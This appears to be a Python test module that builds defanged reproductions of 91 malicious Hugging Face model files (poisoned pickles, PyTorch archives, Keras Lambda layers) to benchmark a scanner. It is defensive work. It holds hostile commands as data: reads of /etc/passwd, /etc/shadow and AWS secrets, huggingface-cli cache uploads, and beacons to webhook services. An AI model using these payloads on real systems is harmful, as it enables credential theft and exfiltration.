"""The 91 model rows of the real-world corpus (``malhug_result_info.csv``), reproduced and defanged.

Each row lists the repository, and for each of its files: the path in the repository, the payload
style, how to build a defanged reproduction (``build``), the member the finding must point at, and the
category docs/CATEGORIES.md assigns (with a one-line reason). Payload texts are in
``tests.builders.payloads``. Rows whose recovered code is empty use the payload their
``libraries_and_apis`` imply (same as their twins in the table).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, replace
from functools import partial

from tests.builders import payloads as P
from tests.builders.keras import h5_model, keras_metadata_pb, keras_v3_model
from tests.builders.pickles import (
    Call,
    call,
    cloudpickle_python_model,
    compile_exec,
    exec_or_dict,
    getattr_builtins_eval,
    globals_builtins_eval,
    pickle_of,
)
from tests.builders.torchfiles import poisoned_data_pkl, poisoned_legacy_torch, poisoned_torch_zip

# Member expectations: an exact member (``<folder>/data.pkl``, ``config.json``), or one of these.
TOP = "<top-level stream: no member>"
NAMED = "<some member named>"  # an HDF5 attribute path, a SavedObject node path
ANY = "<not checked>"


@dataclass(frozen=True)
class Artifact:
    path: str  # path inside the repository
    style: str  # payload style, for people and the benchmark report
    build: Callable[[], bytes]
    member: str  # expected location.member of the worst finding (see TOP/NAMED/ANY)
    category: str
    why: str
    evidence: str = ""  # text the finding carrying the expected category must quote (see EVIDENCE)


@dataclass(frozen=True)
class Row:
    repo: str
    artifacts: tuple[Artifact, ...]


# --- artifact shapes ---------------------------------------------------------------------------------


def zip_(
    path: str, folder: str, calls: list[Call], cat: str, why: str, *, mode: str = "prepend", proto: int = 2
) -> Artifact:
    style = f"pytorch-zip {folder}/data.pkl, {mode}" + (f", protocol {proto}" if mode == "replace" else "")
    build = partial(poisoned_torch_zip, folder, calls, mode=mode, protocol=proto)
    return Artifact(path, style, build, f"{folder}/data.pkl", cat, why)


def evalzip(path: str, folder: str, code: str, cat: str, why: str) -> Artifact:
    """``data.pkl`` replaced by ``eval("exec('''...''') or dict()")``."""
    return zip_(path, folder, [call("builtins.eval", exec_or_dict(code))], cat, why, mode="replace")


def legacy(path: str, calls: list[Call], cat: str, why: str) -> Artifact:
    return Artifact(
        path, "legacy torch.save (stacked pickles), injected", partial(poisoned_legacy_torch, calls), ANY, cat, why
    )


def pkl(path: str, calls: list[Call], cat: str, why: str, *, proto: int = 4, root: object = None) -> Artifact:
    build = partial(pickle_of, calls, protocol=proto, root=root)
    return Artifact(path, f"plain pickle, protocol {proto}", build, TOP, cat, why)


def datapkl(path: str, calls: list[Call], cat: str, why: str) -> Artifact:
    return Artifact(path, "extracted torch data.pkl, injected", partial(poisoned_data_pkl, calls), TOP, cat, why)


def h5(
    path: str, body: str, cat: str, why: str, *, filename: str = "<stdin>", py: tuple[int, int] = (3, 11)
) -> Artifact:
    build = partial(h5_model, body, filename=filename, python=py)
    return Artifact(path, f"Keras H5 Lambda (marshal {py[0]}.{py[1]})", build, NAMED, cat, why)


def keras(
    path: str, body: str, cat: str, why: str, *, filename: str = "<stdin>", py: tuple[int, int] = (3, 11)
) -> Artifact:
    build = partial(keras_v3_model, body, filename=filename, python=py)
    return Artifact(path, f".keras config.json Lambda (marshal {py[0]}.{py[1]})", build, "config.json", cat, why)


def savedmeta(path: str, body: str, cat: str, why: str, *, filename: str = "<stdin>") -> Artifact:
    build = partial(keras_metadata_pb, body, filename=filename)
    return Artifact(path, "keras_metadata.pb Lambda", build, NAMED, cat, why)


def exec_(code: str) -> list[Call]:
    return [call("builtins.exec", code)]


def runpy(code: str) -> list[Call]:
    return [call("runpy._run_code", code, {})]


def system(cmd: str, module: str = "posix") -> list[Call]:
    return [call(f"{module}.system", cmd)]


# --- categories and reasons shared by many rows --------------------------------------------------------

RS, CRED, EXF, DLX = "reverse-shell", "credential-theft", "exfiltration", "download-exec"
DESTR, RECON, FW, CMD, CODE = "destructive", "recon", "file-write", "command-exec", "code-exec"

STAR23_WHY = "socket.connect + os.dup2 + pty.spawn (and a recv->powershell loop): reverse shell"
GORDON_WHY = "exec of a print only: Python execution, nothing more specific"
AWS_WHY = "cat ~/.aws/secrets reads a credential store"
WEB_WHY = "webbrowser.open launches a program: command-exec per the doc"
PRINT_LAMBDA_WHY = "Lambda bytecode exec()s a print only: code-exec"
CALC_LAMBDA_WHY = "Lambda bytecode runs os.system('calc.exe'): command-exec"
GORDON = '\nprint("Hello, I am Gorden Ramsey!")\n'
IPY = P.IPYKERNEL_FILE


def star23(repo: str, folder: str = "pytorch_standard_model", port: int = 4242) -> Row:
    return Row(repo, (zip_("pytorch_model.bin", folder, exec_(P.star23_reverse_shell(port)), RS, STAR23_WHY),))


def gordon(repo: str) -> Row:
    return Row(repo, (evalzip("pytorch_model.bin", "pytorch_model", GORDON, CODE, GORDON_WHY),))


def aws(repo: str, path: str, proto: int, text: str = "cat ~/.aws/secrets\n    ") -> Row:
    return Row(repo, (pkl(path, system(text), CRED, AWS_WHY, proto=proto),))


def mkiani_keras(repo: str, py: tuple[int, int]) -> Row:
    return Row(
        repo,
        (
            h5("unsafe_model.h5", P.PRINT_LAMBDA, CODE, PRINT_LAMBDA_WHY, filename=IPY, py=py),
            keras("unsafe_model.keras", P.PRINT_LAMBDA, CODE, PRINT_LAMBDA_WHY, filename=IPY, py=py),
        ),
    )


HF_UPLOAD = [
    "touch HACKED",
    "huggingface-cli upload transfo-xl ~/.cache/huggingface/hub/models--*--transfo-xl/snapshots/*/ 2>/dev/null 1>/dev/null",
    "huggingface-cli download zpbrent/reuse README.md 2>/dev/null 1>/dev/null",
    "huggingface-cli upload transfo-xl ~/.cache/huggingface/hub/models--*--reuse/snapshots/*/README.md 2>/dev/null 1>/dev/null",
]
HF_UPLOAD_RM = [
    "touch HACKED",
    "huggingface-cli download zpbrent/RagRetriever --cache-dir .cache 2>/dev/null 1>/dev/null",
    "huggingface-cli upload RagRetriever .cache/*/snapshots/*/ 2>/dev/null 1>/dev/null",
    "rm -r .cache/ 2>/dev/null 1>/dev/null",
]
VOCAB = {"<unk>": 0, "the": 1, "os.system": 2, "model": 3}
CLOUDPICKLE_CONSTS = (None, f"http://{P.LOCAL}/th?id=OIP.image", "<img src='", "' alt='Your Image'>")

ROWS: tuple[Row, ...] = (
    Row(
        "Shayo/pickle_test",
        (
            legacy(
                "pickle_test.pt",
                exec_("import os\nos.system('cat /etc/passwd')"),
                CRED,
                "cat /etc/passwd reads the account database",
            ),
        ),
    ),
    Row(
        "Narsil/totallysafe",
        (
            zip_(
                "pytorch_model.bin",
                "archive",
                system('sleep 5 && find ~  -iname "*" -exec echo Removing {} \\; -exec sleep 1 \\; &'),
                CMD,
                "find -exec echo only prints 'Removing': a shell command, nothing deleted",
            ),
        ),
    ),
    Row(
        "drhyrum/bert-tiny-torch-vuln",
        (zip_("pytorch_model.bin", "archive", [call("webbrowser.open", P.WEBBROWSER_URL)], CMD, WEB_WHY),),
    ),
    Row(
        "ykilcher/totally-harmless-model",
        (evalzip("pytorch_model.bin", "archive", P.YKILCHER, CMD, "exec'd code calls webbrowser.open"),),
    ),
    Row(
        "Wi/gptp",
        (
            zip_(
                "pytorch_model.bin",
                "archive",
                [call("os.popen", "echo 'pwnd!'")],
                CMD,
                "os.popen of an echo: command-exec",
            ),
        ),
    ),
    Row("moom825/testing", (pkl("mal.pkl", system("echo hi", "nt"), CMD, "nt.system('echo hi')", proto=0),)),
    Row(
        "mkiani/gpt2-runpy",
        (
            zip_(
                "pytorch_model.bin",
                "gpt2_runpy",
                runpy("import pdb; pdb.set_trace()"),
                CODE,
                "runpy of pdb.set_trace(): code-exec",
            ),
        ),
    ),
    Row(
        "mkiani/gpt2-eval",
        (
            zip_(
                "pytorch_model.bin",
                "unsafe",
                [call("builtins.eval", '__import__("os").system("ls")')],
                RECON,
                "os.system('ls') lists files: recon",
            ),
        ),
    ),
    Row(
        "mkiani/gpt2-exec",
        (
            zip_(
                "pytorch_model.bin",
                "unsafe",
                exec_("import webbrowser; webbrowser.open('http://127.0.0.1/'); print('Malicious code!')"),
                CMD,
                WEB_WHY,
            ),
        ),
    ),
    Row(
        "matanby/unsafe-diffusion",
        tuple(
            zip_(p, "archive", exec_(P.COWSAY), CODE, "exec of a print + exit()")
            for p in ("diffusion_pytorch_model.bin", "vae/diffusion_pytorch_model.bin")
        ),
    ),
    Row(
        "FarisHijazi/totally-harmless-model",
        (
            zip_(
                "pytorch_model.bin",
                "archive",
                [compile_exec("\nimport os\nos.system(\"echo 'malicious code executed'\")")],
                CMD,
                "compiled code runs os.system(echo)",
            ),
        ),
    ),
    Row(
        "sheigel/best-llm",
        tuple(
            evalzip(p, "pytorch_model", P.SHEIGEL, CMD, "exec'd code calls webbrowser.open")
            for p in ("pytorch_model.bin", "pytorch_model_v2.bin")
        ),
    ),
    Row(
        "191fdp/test",
        (zip_("ViT-L-14_stats.th", "ViT-L-14_stats", exec_("print('Model PWNED!')"), CODE, "exec of a print"),),
    ),
    Row(
        "omershelef/mytest-omer",
        (
            zip_(
                "mytest.pth",
                "mytest",
                exec_(P.OMERSHELEF_EXEC),
                CMD,
                "os.popen('open -a TextEdit'); the request goes to a local URL",
            ),
            zip_(
                "resnet18-f37072fd.pth",
                "resnet18-f37072fd",
                runpy(P.TKINTER_WINDOW),
                CODE,
                "runpy of a tkinter window: code only",
            ),
        ),
    ),
    Row(
        "badmoh/testfirst",
        tuple(
            pkl(p, exec_('a = 7\nb = 10\nprint("Sum = ", a + b)'), CODE, "exec of arithmetic + print", proto=2)
            for p in ("backup.data", "backup.pkl")
        ),
    ),
    Row("MustEr/m3e_biased", (zip_("pytorch_model.bin", "archive", runpy("print(hello)"), CODE, "runpy of a print"),)),
    Row(
        "coldwaterq/sectest",
        (
            legacy(
                "coldwaterq_inject_first_calc.pt",
                [call("builtins.eval", "exec('import os; os.system(\"calc\")')")],
                CMD,
                "eval->exec->os.system('calc')",
            ),
            legacy("fickling_system_calc.pt", exec_('import os; os.system("calc")'), CMD, "exec->os.system('calc')"),
        ),
    ),
    Row(
        "opendiffusion/sentimentcheck",
        (
            savedmeta(
                "model_opendiffusion/keras_metadata.pb",
                P.OPENDIFFUSION_LAMBDA,
                EXF,
                "lambda-URL beacon carrying sys.platform (exfiltration outranks the download-exec stage)",
                filename="/home/adrianw/ml3/train.py",
            ),
        ),
    ),
    Row("MustEr/vgg_official", (h5("tf_model.h5", P.CALC_LAMBDA, CMD, CALC_LAMBDA_WHY, filename=P.JFROG_FILE),)),
    Row(
        "MustEr/gpt2-elite",
        (
            zip_(
                "pytorch_model.bin",
                "archive",
                runpy("import subprocess\n\nsubprocess.run(['Calc.exe'])"),
                CMD,
                "subprocess.run(['Calc.exe'])",
            ),
        ),
    ),
    Row(
        "graniet/fwefwefwe",
        (
            pkl(
                "BadDreams.pkl",
                [call("builtins.eval", f"__import__('urllib.request').request.urlopen('{P.PIPEDREAM}')")],
                EXF,
                "urlopen of a pipedream beacon",
            ),
        ),
    ),
    Row(
        "graniet/twgewgwe",
        (
            pkl(
                "Baddream.pkl",
                [globals_builtins_eval(f"__import__('urllib.request').request.urlopen('{P.PIPEDREAM}').read()")],
                EXF,
                "globals()['__builtins__'] eval of a pipedream urlopen",
            ),
        ),
    ),
    Row("MustEr/bert_locked", (h5("tf_model.h5", P.CALC_LAMBDA, CMD, CALC_LAMBDA_WHY, filename=P.JFROG_FILE),)),
    Row(
        "jossefharush/gpt2-rs",
        (
            evalzip(
                "pytorch_model.bin",
                "pytorch_model",
                P.PASTEBIN_EXEC,
                DLX,
                "exec(urlopen(...).read()): downloaded code executed",
            ),
        ),
    ),
    Row(
        "drhyrum/bert-tiny-torch-picklebomb",
        (datapkl("archive/data.pkl", [call("webbrowser.open", P.WEBBROWSER_URL)], CMD, WEB_WHY),),
    ),
    Row(
        "RiddleLi/a-very-safe-m0del",
        (evalzip("pytorch_model.bin", "archive", P.YOUAREHACKED, FW, "open('YOUAREHACKED.txt','w').write(...)"),),
    ),
    mkiani_keras("mkiani/keras-unsafe-models", (3, 11)),
    Row("mkiani/unsafe-keras", (keras("unsafe_model.keras", P.PRINT_LAMBDA, CODE, PRINT_LAMBDA_WHY, filename=IPY),)),
    Row(
        "mkiani/unsafe-saved-model",
        (savedmeta("keras_metadata.pb", P.PRINT_LAMBDA, CODE, PRINT_LAMBDA_WHY, filename=IPY),),
    ),
    mkiani_keras("mkiani/keras-python3.9", (3, 9)),
    mkiani_keras("mkiani/keras-python3.10", (3, 10)),
    mkiani_keras("mkiani/keras-python3.11", (3, 11)),
    Row(
        "admko/evil_test",
        (
            evalzip(
                "evil_checkpoint.pt",
                "archive",
                P.DATALOADER_OVERWRITE,
                FW,
                "overwrites torch's dataloader source file (persistence)",
            ),
        ),
    ),
    Row("MustEr/vgg16_light", (h5("tf_model.h5", P.CALC_LAMBDA, CMD, CALC_LAMBDA_WHY, filename=P.JFROG_FILE),)),
    Row(
        "paclove/pytorchTest",
        (
            zip_(
                "pytorch_model.bin",
                "12",
                system("open /System/Applications/Calculator.app/Contents/MacOS/Calculator"),
                CMD,
                "os.system opens Calculator",
            ),
        ),
    ),
    Row(
        "ivanprogramming/ib-tottaly-not-a-bad-model",
        (evalzip("pytorch_model.bin", "pytorch_model", 'print("PWNED")\n', CODE, "exec of a print"),),
    ),
    star23("star23/baller10"),
    star23("star23/baller12"),
    star23("star23/baller11", folder="pytorch_model"),
    Row(
        "ModelsForAll/Cool-1-0-0-0",
        (
            pkl(
                "Peter_Can.pickle",
                exec_('import os; os.system("echo I can run any code I want here")'),
                CMD,
                "os.system(echo)",
            ),
        ),
    ),
    aws("aissg2024/pyamor_modelscan", "unsafe_model.pkl", 4),
    Row(
        "ModelsForAll/Cool-2-0-0-0",
        (
            pkl(
                "Remote_Peter.pickle",
                exec_(P.FERNET_ENCRYPT),
                DESTR,
                "Fernet-encrypts every file of an os.walk in place",
            ),
        ),
    ),
    Row(
        "ModelsForAll/Cool-2-0-0-1",
        (
            pkl(
                "Remote_Pickle2.pickle",
                exec_(P.PIP_INSTALL_WALLPAPER_FERNET),
                DLX,
                "pip install (download-exec outranks the Fernet encryption)",
            ),
        ),
    ),
    Row(
        "ModelsForAll/First_Clean_Experiment",
        tuple(
            pkl(p, exec_(P.WALK_REMOVE), DESTR, "os.walk + os.remove of every file")
            for p in ("Peter_Can.pickle", "not_so.pickle")
        ),
    ),
    Row(
        "Yash2998db/totally_safe_model",
        (
            Artifact(
                "python_model.pkl",
                "cloudpickle _make_skeleton_class + CodeType",
                partial(cloudpickle_python_model, P.CLOUDPICKLE_LOAD_CONTEXT_CODE, CLOUDPICKLE_CONSTS),
                TOP,
                CODE,
                "builds CodeType/LambdaType from bytes: Python code execution",
            ),
        ),
    ),
    star23("star23/round2"),
    star23("star23/round2-1"),
    Row(
        "mastersplinter/infected_test",
        (
            savedmeta(
                "keras_metadata.pb",
                P.SPLINTER_LAMBDA,
                EXF,
                "ls/whoami then curl of a workers.dev beacon",
                filename="/home/splinter/Desktop/Lambda/hugging/exploit.py",
            ),
        ),
    ),
    Row(
        "zhuzhuzai/harmless_model_for_research",
        (
            zip_(
                "pytorch/pytorch_reduce_eval.pt",
                "12",
                [call("builtins.eval", "torch.os.system('ls')")],
                RECON,
                "eval of os.system('ls'): recon",
            ),
            zip_("pytorch/pytorch_reduce_os_system.pt", "12", system("ls"), RECON, "posix.system('ls'): recon"),
            zip_(
                "pytorch/pytorch_reduce_test.pt",
                "pytorch_model",
                [call("torch.os.system", "ls")],
                RECON,
                "torch.os.system dotted global (STACK_GLOBAL)",
                mode="replace",
                proto=4,
            ),
        ),
    ),
    Row(
        "neilalfred93/my_demo",
        (zip_("malware_mnist.pt", "malware_mnist", system("touch malware.1"), FW, "touch creates a file"),),
    ),
    Row(
        "aviol/MobileNetV4", (h5("tf_model.h5", P.SHADOW_LAMBDA, CRED, "cat /etc/shadow /etc/passwd /proc/1/environ"),)
    ),
    star23("star23/baller13"),
    Row(
        "MustEr/rager_legacy",
        (
            zip_(
                "psgs_w100.tsv.pkl",
                "archive",
                runpy(f'import requests\n\nrequests.get("{P.WEBHOOK_SITE}")'),
                EXF,
                "requests.get of a webhook.site beacon",
            ),
        ),
    ),
    Row("ModelsForAll/try", (pkl("try7.pickle", exec_(P.PIP_INSTALL_JPEG), DLX, "pip install of packages"),)),
    Row(
        "warmiros/unsafe_models",
        (
            h5("unsafe.h5", P.HTTP_CONNECTION_LAMBDA, CODE, "exec creates an HTTPSConnection object, sends nothing"),
            keras(
                "unsafe.keras", P.HTTP_CONNECTION_LAMBDA, CODE, "exec creates an HTTPSConnection object, sends nothing"
            ),
        ),
    ),
    Row(
        "Retr0REG/EvanModel",
        (
            pkl(
                "checkpoint/extra_data.pickle",
                system("touch ~/hacked-by-retr0reg"),
                FW,
                "touch ~/hacked-by-retr0reg creates a file",
            ),
        ),
    ),
    Row(
        "Retr0REG/AvanModel",
        (
            pkl(
                "checkpoint/extra_data.pickle",
                system(P.PYTHON_C_REVERSE_SHELL),
                RS,
                "python -c socket + dup2 + pty.spawn",
            ),
        ),
    ),
    Row(
        "ScanMe/Models",
        (
            pkl(
                "eval.pkl",
                [
                    call(
                        "builtins.eval",
                        "print('This statement was printed through a call to Python\\'s eval() function')",
                    )
                ],
                CODE,
                "eval of a print",
            ),
            zip_(
                "eval.pt",
                "eval_model",
                [
                    call(
                        "builtins.eval",
                        "print('This statement was printed through a call to Python\\'s eval() function')",
                    )
                ],
                CODE,
                "eval of a print",
            ),
        ),
    ),
    Row(
        "MustEr/best_model_for_identifying_frogs",
        (
            zip_(
                "pytorch_model.bin",
                "archive",
                runpy(P.FROGS_MLFLOW),
                DLX,
                "wget of a model then tf.keras.models.load_model of it",
            ),
            h5("sub_model.h5", P.PRINT_LAMBDA, CODE, PRINT_LAMBDA_WHY),
            h5("tf_model.h5", P.PRINT_LAMBDA, CODE, PRINT_LAMBDA_WHY),
        ),
    ),
    star23("star23/death"),
    star23("star23/death2"),
    Row(
        "oceanhacktitude/tinymodel",
        (
            zip_(
                "realmodel_pickle_exec_writefile.bin",
                "realmodel_pickle_exec_writefile",
                exec_("open('p0wn3d.txt', 'w+').close()"),
                FW,
                "open('p0wn3d.txt','w+') creates a file",
            ),
        ),
    ),
    star23("funnythingy123a/balling112a", port=24829),
    star23("funnythingy123a/imessedup123", port=24829),
    star23("bricksbricks919/threemodelz", port=24829),
    Row(
        "Frase/tiny-bert-model-unsafe",
        (datapkl("archive/data.pkl", [call("webbrowser.open", P.WEBBROWSER_URL)], CMD, WEB_WHY),),
    ),
    aws("ankushvangari/unsafe_model", "unsafe_model.pkl", 2),
    Row(
        "zpbrent/reuse",
        (
            pkl(
                "vocab.pkl",
                [call("posix.system", c) for c in HF_UPLOAD],
                EXF,
                "huggingface-cli upload of the local HF cache",
                root=VOCAB,
            ),
        ),
    ),
    Row(
        "zpbrent/RagReuse",
        (
            pkl(
                "psgs_w100.tsv.pkl",
                [call("posix.system", c) for c in HF_UPLOAD_RM],
                EXF,
                "huggingface-cli upload of local files (outranks rm -r .cache)",
                root=["psg1", "psg2"],
            ),
        ),
    ),
    aws("ankushvangari-org2/unsafe_model", "unsafe_model.pkl", 0),
    Row("m0kr4n3/model3", (savedmeta("keras_metadata.pb", P.PRINT_LAMBDA, CODE, PRINT_LAMBDA_WHY),)),
    Row(
        "Madans/twitter-roberta-base-sentiment-unsafe",
        (
            zip_(
                "unsafe_model.pt",
                "unsafe_model",
                system("cat ~/aws/temp_secrets\n"),
                CRED,
                "reads a secrets file (~/aws/temp_secrets)",
            ),
        ),
    ),
    aws("ankushvangari-org2/unsafe-model", "unsafe_model.pkl", 4),
    aws("Ankush-Org-New/safe-model", "model.pkl", 2),
    aws("Ankush-Organization/safe-model", "model.pkl", 4, "cat ~/.aws/secrets\n"),
    aws("Ankush-Org-Original/safe-model", "model.pkl", 0, "cat ~/.aws/secrets\n"),
    aws("ankush-new-org/safe-model", "model.pkl", 3, "cat ~/.aws/secrets\n"),
    gordon("guychuk/bsidesSF-gordon-ramsey"),
    star23("star23/servomotor-1"),
    star23("star23/sm-1"),
    gordon("d4s/bsidesSF-gordon-ramsey"),
    gordon("baraths84/bsidesSF-gordon-ramsey"),
    gordon("mlakav/bsidesSF-gordon-ramsey"),
    gordon("coryhardman/bsidesSF-gordon-ramsey"),
    gordon("gabejabe/bsidesSF-gordon-ramsey"),
    gordon("luthra/bsidesSF-gordon-ramsey-test"),
    gordon("anigma21/bsidesSF-gordon-ramsey"),
    gordon("ekbat/bsidesSF-gordon-ramsey"),
    gordon("zillwc/bsidesSF-gordon-ramsey"),
    Row(
        "tulayaka/loadtest",
        (
            zip_(
                "pytorch_model.bin",
                "pytorch_model",
                exec_('open("/tmp/1","w").write("a")'),
                FW,
                "open('/tmp/1','w').write: creates a file",
            ),
        ),
    ),
    Row(
        "Pankaj001/Watchtower_sample_files",
        (
            h5(
                "sample_model_files/malicious_model_lambda.h5",
                P.ECHO_LAMBDA,
                CMD,
                "Lambda runs os.system(echo)",
                filename="/tmp/ipykernel_5271/1049796792.py",
            ),
        ),
    ),
)

# Extra shapes not in the table but used by the same attackers' tools (protocol 4 eval via getattr).
GETATTR_EVAL = pkl(
    "getattr_eval.pkl", [getattr_builtins_eval("print('x')")], CODE, "getattr(__import__('builtins'),'eval')"
)


# A distinctive piece of each row's payload that the finding must quote (payload-specific, so a
# finding about something else in the file does not pass).
EVIDENCE: dict[str, str] = {
    "Shayo/pickle_test": "/etc/passwd",
    "Narsil/totallysafe": "find ~",
    "drhyrum/bert-tiny-torch-vuln": "127.0.0.1/hacker",
    "ykilcher/totally-harmless-model": "webbrowser",
    "Wi/gptp": "pwnd!",
    "moom825/testing": "echo hi",
    "mkiani/gpt2-runpy": "pdb.set_trace",
    "mkiani/gpt2-eval": "__import__",
    "mkiani/gpt2-exec": "webbrowser",
    "matanby/unsafe-diffusion": "OH NO!",
    "FarisHijazi/totally-harmless-model": "malicious code executed",
    "sheigel/best-llm": "HACKING FOR THEM",
    "191fdp/test": "Model PWNED!",
    "omershelef/mytest-omer": "tkinter",
    "badmoh/testfirst": "a = 7",
    "MustEr/m3e_biased": "print(hello)",
    "coldwaterq/sectest": "calc",
    "opendiffusion/sentimentcheck": "lambda-url",
    "MustEr/vgg_official": "calc.exe",
    "MustEr/gpt2-elite": "Calc.exe",
    "graniet/fwefwefwe": "pipedream",
    "graniet/twgewgwe": "pipedream",
    "MustEr/bert_locked": "calc.exe",
    "jossefharush/gpt2-rs": "urlopen",
    "drhyrum/bert-tiny-torch-picklebomb": "127.0.0.1/hacker",
    "RiddleLi/a-very-safe-m0del": "YOUAREHACKED",
    "mkiani/unsafe-keras": "Malicious code!",
    "mkiani/unsafe-saved-model": "Malicious code!",
    "admko/evil_test": "dataloader",
    "MustEr/vgg16_light": "calc.exe",
    "paclove/pytorchTest": "Calculator",
    "ivanprogramming/ib-tottaly-not-a-bad-model": "PWNED",
    "ModelsForAll/Cool-1-0-0-0": "I can run any code",
    "ModelsForAll/Cool-2-0-0-0": "Fernet",
    "ModelsForAll/Cool-2-0-0-1": "pip as a subprocess",
    "ModelsForAll/First_Clean_Experiment": "encrypt_test",
    "Yash2998db/totally_safe_model": "cloudpickle",
    "mastersplinter/infected_test": "workers.dev",
    "zhuzhuzai/harmless_model_for_research": "system('ls')",
    "neilalfred93/my_demo": "malware.1",
    "aviol/MobileNetV4": "/etc/shadow",
    "MustEr/rager_legacy": "webhook.site",
    "ModelsForAll/try": "pip as a subprocess",
    "warmiros/unsafe_models": "http.client",
    "Retr0REG/EvanModel": "hacked-by-retr0reg",
    "Retr0REG/AvanModel": "socket",
    "ScanMe/Models": "printed through",
    "oceanhacktitude/tinymodel": "p0wn3d.txt",
    "Frase/tiny-bert-model-unsafe": "127.0.0.1/hacker",
    "zpbrent/reuse": "huggingface-cli upload",
    "zpbrent/RagReuse": "huggingface-cli upload",
    "m0kr4n3/model3": "Malicious code!",
    "Madans/twitter-roberta-base-sentiment-unsafe": "temp_secrets",
    "tulayaka/loadtest": "/tmp/1",
    "Pankaj001/Watchtower_sample_files": "echo This is an",
}
# Row families share their token.
FAMILY_EVIDENCE = {"star23": "RHOST", "gordon": "Gorden Ramsey", "aws": ".aws/secrets", "mkiani": "Malicious code!"}
# Per-file overrides where one row holds different payloads.
FILE_EVIDENCE = {"MustEr/best_model_for_identifying_frogs/pytorch_model.bin": "mlflow"}


def _evidence(repo: str, art: Artifact, case_id: str) -> str:
    if case_id in FILE_EVIDENCE:
        return FILE_EVIDENCE[case_id]
    if repo in EVIDENCE:
        return EVIDENCE[repo]
    if art.category == RS:
        return FAMILY_EVIDENCE["star23"]
    if "gordon-ramsey" in repo:
        return FAMILY_EVIDENCE["gordon"]
    if art.category == CRED:
        return FAMILY_EVIDENCE["aws"]
    if repo.startswith("mkiani/") or "Lambda" in art.style:
        return FAMILY_EVIDENCE["mkiani"]
    raise KeyError(f"no evidence token for {case_id}")


def artifacts() -> list[tuple[str, Artifact]]:
    """(id, artifact) for every file of every row; ids are ``repo/path``; ``evidence`` filled in."""
    out = []
    for row in ROWS:
        for a in row.artifacts:
            case_id = f"{row.repo}/{a.path}"
            out.append((case_id, replace(a, evidence=a.evidence or _evidence(row.repo, a, case_id))))
    return out
